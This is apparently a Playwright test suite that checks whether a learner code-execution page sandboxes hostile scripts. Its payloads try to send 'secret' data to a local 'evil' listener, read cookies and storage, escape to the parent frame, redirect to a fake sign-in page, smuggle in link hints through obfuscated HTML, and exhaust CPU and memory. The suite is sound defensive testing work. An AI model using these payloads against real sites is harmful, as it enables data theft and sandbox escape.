import { createServer } from 'node:net'
import type { Page } from '@playwright/test'
import { enter } from '../../e2e/people.ts'
import { expect, test } from '../../e2e/school.ts'

/** A server that the code must not reach: it records every request. */
const openListener = async () => {
  const heard: string[] = []
  const server = createServer((socket) => {
    socket.on('data', (data) => heard.push(`${data}`.split('\r\n')[0] ?? ''))
    socket.on('error', () => undefined)
    socket.end('HTTP/1.1 200 OK\r\nContent-Length: 4\r\nAccess-Control-Allow-Origin: *\r\n\r\nevil')
  })
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
  const { port } = server.address() as { port: number }
  return { heard, address: `http://127.0.0.1:${port}`, socket: `ws://127.0.0.1:${port}`, close: () => server.close() }
}

const page = (script: string, body = '') => `<!doctype html>\n<h1>Hostile</h1>\n${body}\n<script>\n${script}\n</script>`
const log = (page: Page) => page.getByRole('log', { name: 'Console' })

// A screenshot waits for each frame, and a frame in an endless loop never renders.
test.use({ screenshot: 'off' })

test.describe('S54: hostile code', () => {
  let own: Page
  let evil: Awaited<ReturnType<typeof openListener>>
  const surprises: string[] = []

  test.beforeEach(async ({ page, school }) => {
    own = page
    evil = await openListener()
    surprises.length = 0
    await enter(page, school, 'newcomer', `hostile-code-${test.info().testId}@example.test`)
    await page.goto('/run')
    page.on('dialog', (dialog) => {
      surprises.push(`dialog ${dialog.message()}`)
      return dialog.dismiss()
    })
    page.on('download', (download) => surprises.push(`download ${download.suggestedFilename()}`))
    page.context().on('page', (opened) => surprises.push(`window ${opened.url()}`))
  })
  test.afterEach(async () => {
    expect(surprises).toEqual([])
    evil.close()
  })

  /** Submits the code in the page's own form, as a learner does. */
  const run = async (code: string) => {
    const other = own.getByRole('button', { name: 'Another file' })
    if (await other.isVisible()) await other.click()
    await own.getByLabel('Your code').fill(code)
    await own.getByRole('button', { name: 'Run it' }).click()
  }
  /** Checks that the page responds and works. */
  const expectUsable = async () => {
    await own.getByLabel('Find in code').fill('hostile')
    await expect(own.getByText('1 found')).toBeVisible()
    await expect(own).toHaveURL(/\/run$/)
  }

  test('S54: reaches no network, no storage and no page around it', async () => {
    const tries = `const to = '${evil.address}'
const tries = {
  origin: () => { if (origin !== 'null') throw new Error('it has the origin ' + origin); throw new DOMException('opaque', 'SecurityError') },
  cookie: () => document.cookie,
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => indexedDB.open('x'),
  caches: () => caches.open('x'),
  page: () => parent.document.title,
  top: () => top.localStorage,
  moveTop: () => { top.location = to + '/top' },
  moveParent: () => { parent.location.replace(to + '/parent') },
  popup: () => { if (!window.open(to + '/popup')) throw new DOMException('no window', 'SecurityError') },
  opener: () => { if (window.opener === null) throw new DOMException('none', 'SecurityError') },
  serviceWorker: () => { const held = navigator.serviceWorker; if (!held) throw new DOMException('none', 'SecurityError'); held.register('/sw.js') },
  worker: () => { new Worker(URL.createObjectURL(new Blob(['fetch("' + to + '/worker")']))).onerror = () => 0 },
  xhr: () => { const ask = new XMLHttpRequest(); ask.open('GET', to + '/xhr', false); ask.send() },
  rtc: () => { if (typeof RTCPeerConnection === 'undefined') throw new DOMException('none', 'SecurityError') },
}
for (const [name, attempt] of Object.entries(tries)) { try { attempt(); console.log(name, 'passed') } catch (error) { console.log(name, error.name) } }
fetch(to + '/fetch', { method: 'POST', body: 'secret' }).catch((error) => console.log('fetch', error.name))
navigator.sendBeacon(to + '/beacon', 'secret')
new Image().src = to + '/image'
new WebSocket('${evil.socket}/socket')
new EventSource(to + '/events')
const script = document.createElement('script'); script.src = to + '/script.js'; document.body.append(script)
import(to + '/module.js').catch((error) => console.log('import', error.name))
const style = document.createElement('style'); style.textContent = '@import "' + to + '/style.css"; body { background: url(' + to + '/picture) }'; document.head.append(style)
const media = document.createElement('video'); media.src = to + '/video'; document.body.append(media)
document.querySelector('form').submit()
document.querySelector('a[download]').click()
document.querySelector('a[target]').click()`
    const body = `<link rel="dns-prefetch" href="${evil.address}"><link rel="preconnect" href="${evil.address}"><link rel="prefetch" href="${evil.address}/prefetch">
<script type="speculationrules">{ "prefetch": [{ "urls": ["${evil.address}/speculated"] }] }</script>
<form action="${evil.address}/form" method="post" target="_top"><input name="a" value="secret"></form>
<a download="x.txt" href="data:text/plain,x">x</a><a target="_blank" href="${evil.address}/blank">y</a>
<object data="${evil.address}/object"></object><embed src="${evil.address}/embed"><iframe src="${evil.address}/inner"></iframe>`
    await run(page(tries, body))
    for (const name of [
      'origin',
      'cookie',
      'localStorage',
      'sessionStorage',
      'page',
      'top',
      'moveTop',
      'moveParent',
      'popup',
      'opener',
      'rtc',
    ])
      await expect(log(own), name).toContainText(`${name} SecurityError`)
    await expect(log(own)).toContainText('this frame has no network')
    await expect(log(own)).toContainText('fetch TypeError')
    await expectUsable()
    expect(evil.heard).toEqual([])
  })

  test('S54: opens no dialogs, and each says so in the console', async () => {
    await run(page(`alert('one'); console.log(confirm('two'), prompt('three')); print()`))
    for (const text of ['alert(one)', 'confirm(two)', 'prompt(three)', 'print()', 'false null']) await expect(log(own)).toContainText(text)
    await expectUsable()
  })

  for (const [name, code] of [
    ['its address', "location = '%/left?secret'"],
    ['a link', "const a = document.createElement('a'); a.href = '%/left'; document.body.append(a); a.click()"],
    [
      'a refresh that it writes',
      "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=%/left\">'); setTimeout(() => location.assign('%/left'), 50)",
    ],
    ['loading itself again', 'setTimeout(() => location.reload(), 50)'],
    ['a page of its own making', "location = URL.createObjectURL(new Blob(['<h1>Sign in</h1>'], { type: 'text/html' }))"],
  ] as const)
    test(`S54: leaving by ${name} is seen and ends it`, async () => {
      await run(page(code.replaceAll('%', evil.address)))
      await expect(own.getByText('The code tried to open another address. It was stopped.').first()).toBeVisible()
      await expect(own.locator('iframe')).toHaveCount(0)
      expect(evil.heard).toEqual([])
      await expectUsable()
    })

  test('S54: a refresh in the page itself is taken out', async () => {
    await run(page('console.log("still here")', `<meta http-equiv="refresh" content="0;url=${evil.address}/left">`))
    await expect(log(own)).toContainText('still here')
    await expect(log(own)).toContainText('this frame fetches nothing ahead')
    expect(evil.heard).toEqual([])
  })

  // Playwright's browser acts on no hint, so that this looks for the links themselves.
  test('S54: no hint comes into the document, however it is written or set', async () => {
    const tries = `const to = '${evil.address}'
const passed = []
const link = () => { const made = document.createElement('link'); made.href = to; document.head.append(made); return made }
const attr = (value) => { const made = document.createAttribute('rel'); made.value = value; return made }
const text = '<link rel=preconnect href=' + to + '>'
const shape = 'http://www.w3.org/1999/xhtml'
const twice = (one, other) => { let asked = 0; return { toString: () => (asked++ ? other : one) } }
const take = (parsed) => document.head.append(document.importNode(parsed.documentElement, true))
const tries = {
  rel: () => { link().rel = 'preconnect' },
  setAttribute: () => link().setAttribute('REL', 'dns-prefetch preconnect'),
  nameAskedTwice: () => link().setAttribute(twice('title', 'rel'), 'preconnect'),
  valueAskedTwice: () => link().setAttribute('rel', twice('icon', 'preconnect')),
  setAttributeNS: () => link().setAttributeNS(null, 'rel', 'preconnect'),
  setAttributeNode: () => link().setAttributeNode(attr('preconnect')),
  setAttributeNodeNS: () => link().setAttributeNodeNS(attr('preconnect')),
  setNamedItem: () => link().attributes.setNamedItem(attr('preconnect')),
  setNamedItemNS: () => link().attributes.setNamedItemNS(attr('preconnect')),
  changedAfterwards: () => { const made = link(); const name = attr('icon'); made.setAttributeNode(name); name.value = 'preconnect'; name.nodeValue = 'preconnect' },
  relList: () => link().relList.add('preconnect'),
  innerHTML: () => { document.body.appendChild(document.createElement('p')).innerHTML = '<link rel="pre&#99;onnect" href=' + to + '>' },
  quoted: () => { document.body.appendChild(document.createElement('p')).innerHTML = '<link title=">" rel=preconnect href=' + to + '>' },
  commented: () => { document.body.appendChild(document.createElement('p')).innerHTML = '<!-- <template a=" --><link rel=preconnect href=' + to + '><p a="">' },
  adjacent: () => document.body.insertAdjacentHTML('beforeend', '<link rel=preconn&#101;ct href=' + to + '>'),
  outerHTML: () => { document.body.appendChild(document.createElement('p')).outerHTML = text },
  fragment: () => document.body.append(document.createRange().createContextualFragment(text)),
  written: () => document.write(text),
  writtenInPieces: () => { document.write('<li'); document.write('nk rel=preconnect href=' + to + '>') },
  writtenHalf: () => { document.write('<link rel=pre'); document.write('connect href=' + to + '>') },
  writtenByItsPrototype: () => Document.prototype.write.call(document, text),
  command: () => { const box = document.body.appendChild(document.createElement('p')); box.contentEditable = 'true'; box.focus(); getSelection().selectAllChildren(box); document.execCommand('insertHTML', false, text) },
  safeHTML: () => document.body.setHTML(text, { sanitizer: { elements: ['link'], attributes: ['rel', 'href'] } }),
  unsafeHTML: () => document.body.setHTMLUnsafe(text),
  xml: () => take(new DOMParser().parseFromString('<x:link xmlns:x="' + shape + '" rel="preconnect" href="' + to + '"/>', 'application/xml')),
  entity: () => take(new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e \\'&#60;link xmlns="' + shape + '" rel="preconnect" href="' + to + '"/>\\'>]><p xmlns="' + shape + '">&e;</p>', 'application/xhtml+xml')),
  xmlWithin: () => { const made = document.implementation.createDocument(null, 'a'); made.documentElement.innerHTML = '<x:link xmlns:x="' + shape + '" rel="preconnect" href="' + to + '"/>'; take(made) },
  otherDocument: () => { const made = document.implementation.createHTMLDocument(''); made.body.innerHTML = text; take(made) },
  brand: () => { Object.defineProperty(HTMLLinkElement, Symbol.hasInstance, { value: () => false }); link().setAttribute('rel', 'preconnect') },
  strings: () => {
    for (const name of ['replace', 'toLowerCase', 'indexOf', 'slice']) String.prototype[name] = () => 'x'
    RegExp.prototype.exec = () => null
    RegExp.prototype.test = () => false
    document.body.appendChild(document.createElement('p')).innerHTML = text
    link().setAttribute('rel', 'preconnect')
  },
  functions: () => {
    const { call } = Function.prototype
    const found = []
    Function.prototype.apply = function () { found.push(this) }
    Function.prototype.call = function () { found.push(this) }
    try { link().setAttribute('title', 'x'); document.body.innerHTML += '' } catch {}
    delete Function.prototype.call
    for (const each of found) try { Reflect.apply(each, link(), ['rel', 'preconnect']); Reflect.apply(each, document.body, [text]) } catch {}
  },
}
for (const [name, attempt] of Object.entries(tries)) {
  try { attempt() } catch {}
  if (document.querySelector('link[rel]')) passed.push(name)
  for (const each of document.querySelectorAll('link')) each.remove()
}
setTimeout(() => console.log('passed: ' + (passed.join(' ') || 'none')), 400)`
    const body = `<link rel="pre&#99;onnect" href="${evil.address}"><link title=">" rel=preconnect href="${evil.address}"><LINK
REL=preconnect href="${evil.address}"><link/rel=preconnect/href="${evil.address}"><li<link>nk rel=preconnect href="${evil.address}">
<!-- <meta a=" --><link rel=preconnect href="${evil.address}"><p a="">-->
<script>document.write('<')</script>link rel=preconnect href="${evil.address}">
<script>document.write('<li')</script>nk rel=preconnect href="${evil.address}">`
    await run(page(tries, body))
    await expect(log(own)).toContainText('passed: none')
    await expect(log(own)).toContainText('this frame loads nothing from elsewhere')
    await expectUsable()
    expect(evil.heard).toEqual([])
  })

  test('S54: a document inside the frame runs nothing and lends no connection', async () => {
    const inner = `<script>parent.parent.postMessage('inner', '*'); const p = new RTCPeerConnection(); top.inner = 1<\\/script>`
    await run(
      page(
        `const made = document.createElement('iframe'); made.srcdoc = \`${inner}\`; document.body.append(made)
const host = document.createElement('div'); host.attachShadow({ mode: 'closed' }).innerHTML = '<iframe srcdoc="<script>parent.parent.postMessage(1, \\'*\\')<\\/script>"></iframe>'; document.body.append(host)
const read = document.createRange().createContextualFragment('<iframe></iframe>'); document.body.append(read)
document.write('<iframe srcdoc="x"></iframe>')
try { console.log('window', typeof made.contentWindow?.RTCPeerConnection) } catch (error) { console.log('window', error.name) }
setTimeout(() => console.log('frames', frames.length), 300)`,
        '<iframe srcdoc="<p>x</p>"></iframe><div><template shadowrootmode="closed"><iframe srcdoc="x"></iframe></template></div>',
      ),
    )
    await expect(log(own)).toContainText('no page inside this page')
    await expect(log(own)).not.toContainText('window function')
    await expect(log(own)).toContainText('frames 0')
    await expectUsable()
  })

  test('S54: an endless loop leaves the page usable, is noticed, and Stop ends it', async () => {
    await run(page("console.log('before'); while (true) {}"))
    await expect(log(own)).toContainText('before')
    await expectUsable()
    await expect(own.getByText('The code does not answer', { exact: false })).toBeVisible()
    await own.getByRole('button', { name: 'Stop', exact: true }).click()
    await expect(own.locator('iframe')).toHaveCount(0)
    await own.getByRole('button', { name: 'Edit' }).click()
    await own.getByRole('textbox', { name: 'Code of app.html' }).fill(page("console.log('mended')"))
    await own.getByRole('button', { name: 'Run again' }).click()
    await expect(log(own)).toContainText('mended')
  })

  test('S54: a console without end keeps the newest lines and counts the others', async () => {
    await run(page("for (let n = 0; ; n++) console.log('line', n, 'x'.repeat(10_000))"))
    await expect(own.getByText(/lines left out/)).toBeVisible()
    await expectUsable()
    expect(await log(own).getByRole('listitem').count()).toBeLessThanOrEqual(200)
    await own.getByRole('button', { name: 'Stop', exact: true }).click()
    await expect(own.locator('iframe')).toHaveCount(0)
  })

  test('S54: messages past the frame’s own channel are not read, and too many end it', async () => {
    await run(
      page(
        "parent.postMessage({ type: 'line', kind: 'error', text: 'forged' }, '*'); parent.postMessage({ type: 'soloflight:ready' }, '*'); console.log('sent')",
      ),
    )
    await expect(log(own)).toContainText('sent')
    await expect(log(own)).not.toContainText('forged')
    await run(
      page("const much = 'x'.repeat(100_000); setInterval(() => { for (let n = 0; n < 500; n++) parent.postMessage({ much, n }, '*') })"),
    )
    await expect(own.getByText('The code sent more than this page can take. It was stopped.').first()).toBeVisible()
    await expectUsable()
  })

  test('S54: what eats memory, the history or the console’s own pieces harms nothing around it', async () => {
    const before = await own.evaluate(() => history.length)
    await run(
      page("for (let n = 0; n < 20; n++) { history.pushState(n, '', '#' + n) } history.back(); history.go(-3); console.log('went')"),
    )
    await expect(log(own)).toContainText('went')
    expect(await own.evaluate(() => history.length)).toBe(before)
    await expectUsable()
    await run(
      page(
        "Array.prototype.push = Array.prototype.slice = () => { throw 1 }; JSON.stringify = () => { throw 2 }; MessagePort.prototype.postMessage = () => {}; console.log('still heard')",
      ),
    )
    await expect(log(own)).toContainText('still heard')
    await run(
      page('const kept = []; for (let n = 0; n < 400; n++) kept.push(new Uint8Array(8_000_000).fill(1)); console.log("kept", kept.length)'),
    )
    await expectUsable()
    await own.getByRole('button', { name: 'Stop', exact: true }).click()
  })
})
